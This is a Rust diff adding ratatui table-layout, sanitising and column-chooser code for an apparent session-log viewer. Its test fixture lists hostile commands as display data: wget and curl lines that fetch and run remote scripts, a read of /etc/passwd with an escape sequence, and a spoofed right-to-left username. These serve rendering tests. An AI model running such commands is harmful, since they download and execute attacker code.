@@ -0,0 +1,451 @@
+use ratatui::{
+    layout::{Constraint, Direction, Layout, Rect},
+    style::{Color, Modifier, Style},
+    text::{Line, Span},
+    widgets::{Block, Borders, Cell, Clear, List, ListItem, ListState, Row, Table},
+    Frame,
+};
+use std::borrow::Cow;
+
+use crate::app::App;
+use crate::config::UIConfig;
+use crate::ui::anonymize::Anonymizer;
+use crate::ui::sanitize::sanitize;
+
+/// Gap ratatui leaves between table columns by default
+const COLUMN_SPACING: u16 = 1;
+
+/// Terminal width bands that tables choose their column layout from
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum WidthBucket {
+    /// Under 100 columns, e.g. an 80x24 terminal or a split pane
+    Narrow,
+    /// 100 to 159 columns
+    Medium,
+    /// 160 columns and up
+    Wide,
+}
+
+impl WidthBucket {
+    /// Bucket for a table drawn into `area`
+    pub fn of(area: Rect) -> Self {
+        match area.width {
+            0..=99 => WidthBucket::Narrow,
+            100..=159 => WidthBucket::Medium,
+            _ => WidthBucket::Wide,
+        }
+    }
+
+    /// Pick the layout for this bucket
+    pub fn pick<T>(self, narrow: T, medium: T, wide: T) -> T {
+        match self {
+            WidthBucket::Narrow => narrow,
+            WidthBucket::Medium => medium,
+            WidthBucket::Wide => wide,
+        }
+    }
+}
+
+/// Column constraints of a bordered table, resolved to the widths the table will draw
+pub struct Columns {
+    /// The resolved widths as `Length`s, since a table leaves `Min` columns at their minimum
+    constraints: Vec<Constraint>,
+    widths: Vec<u16>,
+    max_field_width: usize,
+}
+
+impl Columns {
+    /// Resolve `constraints` against the inside of `area`
+    ///
+    /// `max_field_width` is the `ui.max_field_width` cap, applied on top of
+    /// the column width (0 = column width only).
+    pub fn new(area: Rect, constraints: Vec<Constraint>, max_field_width: usize) -> Self {
+        let inner = Rect {
+            x: 0,
+            y: 0,
+            width: area.width.saturating_sub(2),
+            height: 1,
+        };
+
+        // Lay out the same way the table does, with the spacing as columns of its own
+        let mut spaced = Vec::with_capacity(constraints.len() * 2);
+        for (index, constraint) in constraints.iter().enumerate() {
+            if index > 0 {
+                spaced.push(Constraint::Length(COLUMN_SPACING));
+            }
+            spaced.push(*constraint);
+        }
+
+        let chunks = Layout::default()
+            .direction(Direction::Horizontal)
+            .constraints(spaced)
+            .split(inner);
+        let widths: Vec<u16> = chunks.iter().step_by(2).map(|chunk| chunk.width).collect();
+
+        Self {
+            constraints: widths.iter().map(|width| Constraint::Length(*width)).collect(),
+            widths,
+            max_field_width,
+        }
+    }
+
+    /// Constraints to hand to `Table::widths`
+    pub fn constraints(&self) -> &[Constraint] {
+        &self.constraints
+    }
+
+    /// Display width of `column`, in terminal columns
+    pub fn width(&self, column: usize) -> usize {
+        self.widths.get(column).copied().unwrap_or(0) as usize
+    }
+
+    /// Escape `value` and cut it to fit `column`, ending in an ellipsis when cut
+    pub fn fit<'a>(&self, column: usize, value: &'a str) -> Cow<'a, str> {
+        let width = self.width(column);
+        let limit = match (width, self.max_field_width) {
+            // A zero-width column draws nothing anyway; keep the cap alone
+            (0, cap) => cap,
+            (width, 0) => width,
+            (width, cap) => width.min(cap),
+        };
+
+        sanitize(value, limit)
+    }
+}
+
+/// What a column shows in one row
+pub enum CellContent {
+    /// Text, escaped and cut to the column width
+    Text(String),
+    /// Text with its own style, escaped and cut to the column width
+    Styled(String, Style),
+    /// Spans drawn as they are, e.g. tag chips
+    Line(Line<'static>),
+}
+
+/// A column a table can show
+pub struct ColumnDef<T> {
+    /// Key under `[ui.columns]`
+    pub key: &'static str,
+    /// Header text
+    pub title: &'static str,
+    /// Width in a table of the given bucket
+    pub width: fn(&App, WidthBucket) -> Constraint,
+    /// Content of the column for one row
+    pub cell: fn(&App, &Anonymizer, &T) -> CellContent,
+}
+
+/// Every column a table can show, and the ones it shows until the user picks
+pub struct TableColumns<T> {
+    /// Key under `[ui.columns]`
+    pub table: &'static str,
+    /// All columns, in the order the chooser first lists them
+    pub available: Vec<ColumnDef<T>>,
+    /// Keys shown when `[ui.columns]` has nothing for this table
+    pub default: &'static [&'static str],
+}
+
+impl<T> TableColumns<T> {
+    /// Columns to draw, in order: the `[ui.columns]` choice, else the default
+    ///
+    /// Keys that name no column (from a typo or an older version) are skipped.
+    pub fn chosen(&self, config: &UIConfig) -> Vec<&ColumnDef<T>> {
+        let keys: Vec<&str> = match config.columns.get(self.table) {
+            Some(keys) => keys.iter().map(String::as_str).collect(),
+            None => self.default.to_vec(),
+        };
+
+        keys.into_iter()
+            .filter_map(|key| self.available.iter().find(|column| column.key == key))
+            .collect()
+    }
+
+    /// Widths of `columns` in `area`, which the table borrows
+    pub fn layout(&self, app: &App, area: Rect, columns: &[&ColumnDef<T>]) -> Columns {
+        let bucket = WidthBucket::of(area);
+        Columns::new(
+            area,
+            columns.iter().map(|column| (column.width)(app, bucket)).collect(),
+            app.config.ui.max_field_width,
+        )
+    }
+
+    /// Header, widths and rows for `columns`; the caller adds the block and highlight
+    pub fn table<'a, 'r>(
+        &self,
+        app: &App,
+        layout: &'a Columns,
+        columns: &[&ColumnDef<T>],
+        rows: impl IntoIterator<Item = (&'r T, Style)>,
+    ) -> Table<'a>
+    where
+        T: 'r,
+    {
+        let header = Row::new(columns.iter().map(|column| {
+            Cell::from(column.title).style(Style::default().fg(Color::Yellow))
+        }))
+        .height(1)
+        .bottom_margin(1);
+
+        let anon = Anonymizer::for_app(app);
+        let rows: Vec<Row<'static>> = rows
+            .into_iter()
+            .map(|(item, style)| {
+                let cells = columns.iter().enumerate().map(|(index, column)| {
+                    match (column.cell)(app, &anon, item) {
+                        CellContent::Text(text) => Cell::from(layout.fit(index, &text).into_owned()),
+                        CellContent::Styled(text, style) => {
+                            Cell::from(layout.fit(index, &text).into_owned()).style(style)
+                        }
+                        CellContent::Line(line) => Cell::from(line),
+                    }
+                });
+                Row::new(cells.collect::<Vec<_>>()).style(style)
+            })
+            .collect();
+
+        Table::new(rows)
+            .header(header)
+            .widths(layout.constraints())
+    }
+
+    /// Chooser listing every column, the shown ones first in their current order
+    pub fn chooser(&self, config: &UIConfig) -> ColumnChooser {
+        let chosen = self.chosen(config);
+        let mut entries: Vec<ChooserEntry> = chosen.iter()
+            .map(|column| ChooserEntry { key: column.key, title: column.title, shown: true })
+            .collect();
+        entries.extend(
+            self.available.iter()
+                .filter(|column| !chosen.iter().any(|shown| shown.key == column.key))
+                .map(|column| ChooserEntry { key: column.key, title: column.title, shown: false }),
+        );
+
+        ColumnChooser {
+            table: self.table,
+            entries,
+            cursor: 0,
+        }
+    }
+}
+
+/// One line of the column chooser
+#[derive(Debug, Clone)]
+pub struct ChooserEntry {
+    /// Column key
+    pub key: &'static str,
+    /// Header text
+    pub title: &'static str,
+    /// Whether the column is drawn
+    pub shown: bool,
+}
+
+/// State of the column chooser popup (`o` on a table)
+#[derive(Debug, Clone)]
+pub struct ColumnChooser {
+    /// Key of the table being edited
+    pub table: &'static str,
+    /// Every column in display order
+    pub entries: Vec<ChooserEntry>,
+    /// Highlighted entry
+    pub cursor: usize,
+}
+
+impl ColumnChooser {
+    /// Move the highlight by `delta` entries
+    pub fn move_cursor(&mut self, delta: isize) {
+        let last = self.entries.len().saturating_sub(1) as isize;
+        self.cursor = (self.cursor as isize + delta).max(0).min(last) as usize;
+    }
+
+    /// Show or hide the highlighted column
+    pub fn toggle(&mut self) {
+        if let Some(entry) = self.entries.get_mut(self.cursor) {
+            entry.shown = !entry.shown;
+        }
+    }
+
+    /// Move the highlighted column `delta` places, carrying the highlight with it
+    pub fn shift(&mut self, delta: isize) {
+        let target = self.cursor as isize + delta;
+        if target < 0 || target as usize >= self.entries.len() {
+            return;
+        }
+
+        self.entries.swap(self.cursor, target as usize);
+        self.cursor = target as usize;
+    }
+
+    /// Keys of the shown columns, in order
+    pub fn keys(&self) -> Vec<String> {
+        self.entries.iter()
+            .filter(|entry| entry.shown)
+            .map(|entry| entry.key.to_string())
+            .collect()
+    }
+}
+
+/// Render the column chooser as a popup over `area`
+pub fn render_column_chooser(f: &mut Frame, chooser: &ColumnChooser, area: Rect) {
+    let width = area.width.min(64);
+    let height = area.height.min(chooser.entries.len() as u16 + 4);
+    let popup = Rect::new(
+        area.x + (area.width - width) / 2,
+        area.y + (area.height - height) / 2,
+        width,
+        height,
+    );
+
+    let items: Vec<ListItem> = chooser.entries.iter()
+        .map(|entry| {
+            let checkbox = if entry.shown { "[x] " } else { "[ ] " };
+            ListItem::new(Line::from(vec![
+                Span::styled(checkbox, Style::default().fg(Color::Yellow)),
+                Span::raw(entry.title),
+                Span::styled(format!("  ({})", entry.key), Style::default().fg(Color::DarkGray)),
+            ]))
+        })
+        .collect();
+
+    let list = List::new(items)
+        .block(
+            Block::default()
+                .title(format!("Columns: {}", chooser.table))
+                .title(
+                    ratatui::widgets::block::Title::from(" Space: show  J/K: move  r: reset  Enter: save  Esc: cancel ")
+                        .position(ratatui::widgets::block::Position::Bottom),
+                )
+                .borders(Borders::ALL)
+                .style(Style::default().bg(Color::Black)),
+        )
+        .highlight_style(Style::default().add_modifier(Modifier::REVERSED));
+
+    let mut state = ListState::default();
+    state.select(Some(chooser.cursor));
+
+    f.render_widget(Clear, popup);
+    f.render_stateful_widget(list, popup, &mut state);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use pretty_assertions::assert_eq;
+    use ratatui::buffer::Buffer;
+    use ratatui::widgets::Widget;
+    use unicode_width::UnicodeWidthStr;
+
+    /// Source IP, username and command of sessions with wide and hostile values
+    const ROWS: [[&str; 3]; 4] = [
+        ["203.0.113.7", "管理员", "echo 你好世界 && wget http://例え.jp/x.sh -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x"],
+        ["198.51.100.23", "🔥root🔥", "curl http://198.51.100.23/🐚.sh | sh"],
+        ["192.0.2.200", "ｒｏｏｔ", "cat /etc/passwd\x1b[2J"],
+        ["2001:db8::1", "user\u{202e}nimda", "👨‍👩‍👧 🇩🇪 e\u{301}"],
+    ];
+
+    /// Columns of the fixture table in an area `width` wide
+    fn columns(width: u16) -> (Rect, Columns) {
+        let area = Rect::new(0, 0, width, ROWS.len() as u16 + 4);
+        let constraints = WidthBucket::of(area).pick(
+            vec![Constraint::Length(15), Constraint::Length(8), Constraint::Min(10)],
+            vec![Constraint::Length(15), Constraint::Length(16), Constraint::Min(20)],
+            vec![Constraint::Length(39), Constraint::Length(20), Constraint::Min(30)],
+        );
+        (area, Columns::new(area, constraints, 0))
+    }
+
+    /// Draw the fixture table the way the tables of the UI do, one string per line
+    fn render(width: u16) -> Vec<String> {
+        let (area, columns) = columns(width);
+        let header = Row::new(["Source IP", "Username", "Command"]).bottom_margin(1);
+        let rows = ROWS.iter().map(|row| {
+            Row::new(row.iter().enumerate().map(|(index, value)| Cell::from(columns.fit(index, value).into_owned())))
+        });
+        let table = Table::new(rows)
+            .header(header)
+            .block(Block::default().title("Sessions").borders(Borders::ALL))
+            .widths(columns.constraints());
+
+        let mut buffer = Buffer::empty(area);
+        table.render(area, &mut buffer);
+        lines(&buffer)
+    }
+
+    /// Text of each line of `buffer`, skipping the cells wide characters cover
+    fn lines(buffer: &Buffer) -> Vec<String> {
+        (0..buffer.area.height)
+            .map(|y| {
+                let (mut line, mut covered) = (String::new(), 0);
+                for x in 0..buffer.area.width {
+                    if covered > 0 {
+                        covered -= 1;
+                        continue;
+                    }
+                    let symbol = &buffer.get(x, y).symbol;
+                    covered = symbol.width().saturating_sub(1);
+                    line.push_str(symbol);
+                }
+                line
+            })
+            .collect()
+    }
+
+    #[test]
+    fn wide_characters_fit_an_80_column_table() {
+        let lines = render(80);
+        for line in &lines {
+            assert_eq!(line.width(), 80, "{}", line);
+        }
+        assert_eq!(lines, [
+            "┌Sessions──────────────────────────────────────────────────────────────────────┐",
+            "│Source IP       Username Command                                              │",
+            "│                                                                              │",
+            "│203.0.113.7     管理员   echo 你好世界 && wget http://例え.jp/x.sh -O /tmp/.x…│",
+            "│198.51.100.23   🔥root🔥 curl http://198.51.100.23/🐚.sh | sh                 │",
+            "│192.0.2.200     ｒｏｏｔ cat /etc/passwd\\x1b[2J                               │",
+            "│2001:db8::1     user\\u{… 👨\u{200d}👩\u{200d}👧 🇩🇪 e\u{301}                                              │",
+            "└──────────────────────────────────────────────────────────────────────────────┘",
+        ]);
+    }
+
+    #[test]
+    fn wide_characters_fit_a_120_column_table() {
+        let lines = render(120);
+        for line in &lines {
+            assert_eq!(line.width(), 120, "{}", line);
+        }
+        assert_eq!(lines, [
+            "┌Sessions──────────────────────────────────────────────────────────────────────────────────────────────────────────────┐",
+            "│Source IP       Username         Command                                                                              │",
+            "│                                                                                                                      │",
+            "│203.0.113.7     管理员           echo 你好世界 && wget http://例え.jp/x.sh -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x  │",
+            "│198.51.100.23   🔥root🔥         curl http://198.51.100.23/🐚.sh | sh                                                 │",
+            "│192.0.2.200     ｒｏｏｔ         cat /etc/passwd\\x1b[2J                                                               │",
+            "│2001:db8::1     user\\u{202e}nim… 👨\u{200d}👩\u{200d}👧 🇩🇪 e\u{301}                                                                              │",
+            "└──────────────────────────────────────────────────────────────────────────────────────────────────────────────────────┘",
+        ]);
+    }
+
+    #[test]
+    fn fitted_values_never_overflow_their_column() {
+        for width in [80, 120] {
+            let (_, columns) = columns(width);
+            for row in &ROWS {
+                for (index, value) in row.iter().enumerate() {
+                    let fitted = columns.fit(index, value);
+                    assert!(fitted.width() <= columns.width(index), "{:?} in {} columns", fitted, columns.width(index));
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn the_field_cap_applies_under_the_column_width() {
+        let area = Rect::new(0, 0, 80, 10);
+        let columns = Columns::new(area, vec![Constraint::Length(15), Constraint::Min(10)], 12);
+
+        assert_eq!(columns.width(1), 62);
+        assert_eq!(columns.fit(1, "echo 你好世界 && wget"), "echo 你好世…");
+        assert_eq!(columns.fit(0, "203.0.113.7"), "203.0.113.7");
+    }
+}